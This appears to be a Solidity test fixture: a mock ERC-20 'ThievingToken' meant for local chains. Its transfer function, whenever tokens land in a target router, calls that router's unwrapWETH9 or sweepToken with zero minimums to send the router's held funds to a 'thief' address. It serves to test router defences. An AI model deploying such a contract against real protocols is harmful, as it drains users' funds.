// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IUnwrapper {
    function unwrapWETH9(uint256 amountMinimum, address recipient) external payable;

    function sweepToken(address token, uint256 amountMinimum, address recipient) external payable;
}

/// 测试用：转到 victim 名下时，先替 thief 取走那里的 WXOC，或者取走自己。谁都能铸造，只用于本地链。
contract ThievingToken {
    string public constant name = "Thieving Token";
    string public constant symbol = "THIEF";
    uint8 public constant decimals = 18;

    IUnwrapper public immutable victim;
    address public immutable thief;
    bool public takesItself;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(IUnwrapper victim_, address thief_) {
        (victim, thief) = (victim_, thief_);
    }

    function setTakesItself(bool value) external {
        takesItself = value;
    }

    function mint(address to, uint256 value) external {
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        if (to != address(victim)) return;
        if (takesItself) victim.sweepToken(address(this), 0, thief);
        else victim.unwrapWETH9(0, thief);
    }
}
